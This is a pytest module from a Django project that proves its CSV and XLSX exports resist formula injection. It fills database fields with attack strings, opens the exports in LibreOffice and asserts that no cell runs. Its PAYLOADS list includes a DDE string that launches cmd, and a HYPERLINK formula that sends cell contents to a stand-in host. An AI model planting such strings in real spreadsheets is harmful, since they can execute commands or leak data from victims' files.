"""Every export, opened in LibreOffice with whatever a person could have typed: text stays text.

The payloads follow OWASP's page on CSV injection (ASVS 5.0, 1.2.10). A CSV file is opened with "evaluate
formulas" on, which is how Excel always opens one.
"""

from __future__ import annotations

import csv
import re
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from io import StringIO
from itertools import cycle
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from lxml import etree
from openpyxl.utils.escape import unescape

from sightline.assurance.dataset.commands import reset_baseline
from sightline.clocks.calendar import add_months
from sightline.core import local
from sightline.core.audit import System, record_event
from sightline.core.models import AppendOnly
from sightline.core.policy import ROUTES, Read
from sightline.core.trust.actor import unguarded
from sightline.indicators.definitions import INDICATORS
from sightline.indicators.engine import run
from sightline.indicators.periods import parse_periods
from sightline.indicators.scorecard import Scorecard
from sightline.indicators.workbook_out import write_workbook

SOFFICE = Path("/usr/bin/soffice")

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(
        not SOFFICE.exists(), reason=f"skipped: LibreOffice Calc is not installed ({SOFFICE})"
    ),
]

PAYLOADS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r\n=1+1", "\n=1+1", "   =1+1", "\u00a0=1+1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "−1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1"),
    *("=cmd|' /C calc'!A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(A1)"),
    *("=1+1;=1+1", '"=1+1"', "'=1+1"),
    '=HYPERLINK("http://x.example/?"&A1,"more")',
    '","=1+1',
)  # fmt: skip

EXPORTS: dict[str, Callable[[], list[str]]] = {
    "audit-export": lambda: [reverse("audit-export")],
    "dataset:download": lambda: [
        f"{reverse('dataset:downloads')}?download=1&form={form}&indicator={indicator}&version={version}"
        for indicator, version in (("scorecard", "internal"), ("referrals", "publishable"))
        for form in ("xlsx", "csv")
    ],
}
"""Where the files of each export are; the routes themselves are found in the policy."""

NOT_TABLES = {
    "file": "what an agency sent, byte for byte as it came",
    "mfa_download_recovery_codes": "plain text: one's own codes, made at random",
}

CSV_FILTER = "CSV:44,34,76,1,,2057,false,true,false,false,false,-1,true"
"""Commas, double quotes, UTF-8, England; numbers are found in text too, and formulas are evaluated."""

NAMESPACES = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}

PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/workbook\.xml|xl/_rels/workbook\.xml\.rels"
    r"|xl/styles\.xml|xl/theme/theme1\.xml|xl/sharedStrings\.xml|xl/worksheets/sheet\d+\.xml"
)
"""All that may be in an .xlsx file: no comments, links to elsewhere, macros, connections or custom data."""


def exports() -> list[str]:
    return sorted(route for route, page in ROUTES.items() if page.read is Read.EXPORT)


def test_every_export_is_proved_here():
    assert exports(), "no export was found in the policy: nothing would be proved"
    unproved = set(exports()) - EXPORTS.keys() - NOT_TABLES.keys()
    assert not unproved, "add where its files are to EXPORTS"


@dataclass(frozen=True)
class Cell:
    """A cell as LibreOffice has it. In a CSV file it takes "April 2024" for a day: no text, and no number."""

    text: str
    is_text: bool
    number: float | None
    formula: str | None


def opened(file: Path) -> list[list[list[Cell]]]:
    """The sheets of a file as LibreOffice opens it: rows of cells, blank ones at the ends left out."""
    options = [f"--infilter={CSV_FILTER}"] if file.suffix == ".csv" else []
    profile = f"-env:UserInstallation=file://{file.parent}/profile"
    command = [str(SOFFICE), profile, "--headless", *options, "--convert-to", "fods", str(file)]
    subprocess.run(command, cwd=file.parent, check=True, capture_output=True, timeout=120)
    tree = etree.parse(file.with_suffix(".fods"), etree.XMLParser(huge_tree=True))
    for inside in (
        "office:annotation",
        "text:a",
        "table:named-range",
        "table:dde-link",
        "table:cell-content-link",
    ):
        assert not tree.findall(f".//{inside}", NAMESPACES), inside
    return [
        [list(_cells(row)) for row in _rows(sheet)] for sheet in tree.iterfind(".//table:table", NAMESPACES)
    ]


def _attribute(element: etree._Element, name: str) -> str | None:
    space, _, local_name = name.partition(":")
    return element.get(f"{{{NAMESPACES[space]}}}{local_name}")


def _rows(sheet: etree._Element) -> Iterator[etree._Element]:
    for row in sheet.iterfind(".//table:table-row", NAMESPACES):
        if row.find("table:table-cell[@office:value-type]", NAMESPACES) is not None:
            yield from [row] * int(_attribute(row, "table:number-rows-repeated") or 1)


def _cells(row: etree._Element) -> Iterator[Cell]:
    found = []
    for cell in row.iterfind("table:table-cell", NAMESPACES):
        number = _attribute(cell, "office:value")
        formula = _attribute(cell, "table:formula")
        text = "\n".join(_text(line) for line in cell.iterfind("text:p", NAMESPACES))
        is_text = _attribute(cell, "office:value-type") == "string"
        one = Cell(text, is_text, float(number) if number is not None else None, formula)
        repeated = int(_attribute(cell, "table:number-columns-repeated") or 1)
        found += [one] * (repeated if text or formula else min(repeated, 100))
    while found and not found[-1].text:
        found.pop()
    return iter(found)


def _text(element: etree._Element) -> str:
    """What a paragraph says; OpenDocument writes runs of blanks, tabs and line ends as elements."""
    said = element.text or ""
    for part in element:
        match etree.QName(part).localname:
            case "s":
                said += " " * int(_attribute(part, "text:c") or 1)
            case "tab" | "line-break":
                said += " "
            case _:
                said += _text(part)
        said += part.tail or ""
    return said


def as_seen(text: object) -> str:
    """A text as a person sees it: without invisible characters, with blanks and line ends as one blank."""
    return " ".join(re.sub("[\u200b\ufeff\u202e]", "", str(text)).split())


SEEN = {as_seen(payload) for payload in PAYLOADS}


def written(file: Path) -> list[list[list[object]]]:
    """The cells that a file holds, read without LibreOffice; of a CSV all are texts."""
    if file.suffix == ".csv":
        return [list(csv.reader(StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))]
    book = openpyxl.load_workbook(file)
    sheets = [[[_plain(cell.value) for cell in line] for line in sheet.iter_rows()] for sheet in book]
    return [[line for line in sheet if any(value is not None for value in line)] for sheet in sheets]


def _plain(value: object) -> object:
    return unescape(value) if isinstance(value, str) else value


def assert_harmless(file: Path) -> None:
    """Nothing in a file runs, and everybody reads what was typed."""
    sheets, sources = opened(file), written(file)
    assert len(sheets) == len(sources)
    typed, numbers = [], 0
    for rows, lines in zip(sheets, sources, strict=True):
        assert len(rows) == len(lines)
        for row, line in zip(rows, lines, strict=True):
            for cell, value in zip(row, line, strict=False):
                assert cell.formula is None, f"{value!r} became the formula {cell.formula}"
                unmarked = as_seen(value).removeprefix("'") if file.suffix == ".csv" else as_seen(value)
                if {unmarked, as_seen(value)} & SEEN:
                    typed.append(value)
                    assert cell.is_text, f"{value!r} became {cell}"
                if isinstance(value, str) and cell.is_text:
                    assert as_seen(cell.text) == as_seen(value)
                if isinstance(value, int | float) and not isinstance(value, bool):
                    assert cell.number == pytest.approx(value)
                numbers += cell.number is not None
    assert len(typed) >= 2, "hardly a payload has reached the file: nothing is proved"
    assert numbers, "no number has stayed a number"
    if file.suffix == ".xlsx":
        assert_nothing_hidden(file)


def assert_nothing_hidden(file: Path) -> None:
    """No hidden sheet, row or column, no name, comment, link, macro or author in an .xlsx file."""
    with zipfile.ZipFile(file) as parts:
        text = {name: parts.read(name).decode() for name in parts.namelist()}
    assert [name for name in text if not PARTS.fullmatch(name)] == []
    book, core = text["xl/workbook.xml"], text["docProps/core.xml"]
    assert book.count("<sheet ") >= 1
    assert not re.search('state="(?!visible)', book), "a sheet is hidden"
    assert set(re.findall(r'<definedName name="([^"]*)"', book)) <= {"_xlnm._FilterDatabase"}
    for name in re.findall(r"<(?:dc:creator|cp:lastModifiedBy)[^>]*>([^<]+)<", core):
        pytest.fail(f"the file names an author: {name}")
    assert not re.search("<(Company|Manager|HyperlinkBase)>[^<]+<", text["docProps/app.xml"])
    for name in text:
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<f[ >]|hidden=|<hyperlink|<dataValidation|<legacyDrawing", text[name]), (
                name
            )


OURS = re.compile(
    r"code|state|.*key|.*kind|kind|email|password|.*sha.*|.*digest|.*hash|mac|action|outcome|event|clock|path|href"
    r"|folder|definition|indicator|item|breakdown|every|format|files|hidden|authority|ons_code|area_code|measure"
    r"|level|snapshot_id|sql|type|content|old_la_code|variation"
)
"""Fields whose words are the software's own: nobody types into them."""


def typed_fields() -> list[tuple[type[models.Model], str]]:
    """Every field of text that people, or their files, fill."""
    found = []
    for model in apps.get_models():
        if model.__module__.startswith("sightline.") and not issubclass(model, AppendOnly):
            found += [
                (model, field.name)
                for field in model._meta.concrete_fields
                if isinstance(field, models.CharField | models.TextField)
                and not (field.choices or field.unique or OURS.fullmatch(field.name))
            ]
    return found


@pytest.fixture
def typed_by_somebody_hostile(cast, dataset, monkeypatch):
    """Each text that somebody could have typed is a payload, in the first rows of each table."""
    fields = typed_fields()
    names = {f"{model.__name__}.{name}" for model, name in fields}
    assert {"Agency.name", "User.name", "LoadedFile.name", "LoadedFile.supplier"} <= names
    payloads = cycle(PAYLOADS)
    with unguarded("hostile texts in records about people, too"):
        for model, name in fields:
            longest = model._meta.get_field(name).max_length or 10_000
            filled = model._default_manager.exclude(**{name: ""}).order_by("pk")
            for pk in list(filled.values_list("pk", flat=True)[: len(PAYLOADS)]):
                fitting = next(text for text in payloads if len(text) <= longest)
                model._default_manager.filter(pk=pk).update(**{name: fitting})
    ours = local.partnership()
    monkeypatch.setattr(local, "partnership", lambda: replace(ours, name="=1+1"))
    for month, payload in enumerate(PAYLOADS):
        from_on = add_months(date(2024, 4, 1), month)
        reset_baseline(indicator="referrals", from_on=from_on, reason=payload, by=cast.analyst)
        record_event("core.add-agency", System(payload), detail={payload: payload})
        record_event("core.add-agency", cast.member, subject=cast.member)
    return cast


@pytest.mark.parametrize("route", [route for route in exports() if route in EXPORTS])
def test_no_export_of_a_page_holds_a_formula(route, typed_by_somebody_hostile, signed_in, tmp_path):
    client = signed_in(typed_by_somebody_hostile.board_manager)
    for place, address in enumerate(EXPORTS[route]()):
        answer = client.get(address, follow=True)
        assert answer.status_code == 200, address
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        said = answer.headers["Content-Disposition"]
        assert said.startswith("attachment"), f"{address} gave no file"
        (suffix,) = re.findall(r"\.(csv|xlsx)\b", said)
        file = tmp_path / f"{place}.{suffix}"
        file.write_bytes(content)
        assert_harmless(file)


def test_the_spreadsheet_of_the_command_line_holds_no_formula(invented, tmp_path):
    """Titles, notes and the names of files and suppliers are payloads; so are groups and reasons."""
    one = INDICATORS["referrals"]
    payloads = cycle(PAYLOADS)
    periods = parse_periods("2025-05")
    figures = run(invented.snapshot, [one], periods)
    hostile = replace(one, title=PAYLOADS[0], why=PAYLOADS[1], owner=PAYLOADS[2], notes={"x": PAYLOADS[3]})
    groups = tuple(
        replace(figure, group=next(payloads), refused=figure.refused and next(payloads)) for figure in figures
    )
    manifest = invented.snapshot.manifest
    sources = tuple(
        replace(source, name=next(payloads), supplier=next(payloads)) for source in manifest.sources
    )
    snapshot = replace(invented.snapshot, manifest=replace(manifest, sources=sources))
    file = tmp_path / "dataset.xlsx"
    write_workbook(file, Scorecard(snapshot, {one.key: hostile}, groups))
    assert_harmless(file)


@pytest.mark.parametrize("payload", ["=1+1", '=HYPERLINK("x")'])
def test_libreoffice_would_run_what_is_not_marked(payload, tmp_path):
    """The proof proves something: the same words without our care do become a formula."""
    file = tmp_path / "careless.csv"
    with file.open("w", newline="") as out:
        csv.writer(out).writerow([payload, "text"])
    ((cell, _),) = opened(file)[0]
    assert cell.formula is not None


def test_a_hidden_sheet_an_author_or_a_formula_would_be_found(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "text", 1])
    book.properties.creator = "A. Person"
    file = tmp_path / "careless.xlsx"
    book.save(file)
    with pytest.raises(pytest.fail.Exception, match="names an author"):
        assert_nothing_hidden(file)
    with pytest.raises(AssertionError, match="became the formula"):
        assert_harmless(file)
    book.properties.creator = ""
    book.create_sheet("secret").sheet_state = "hidden"
    book.save(file)
    with pytest.raises(AssertionError, match="a sheet is hidden"):
        assert_nothing_hidden(file)
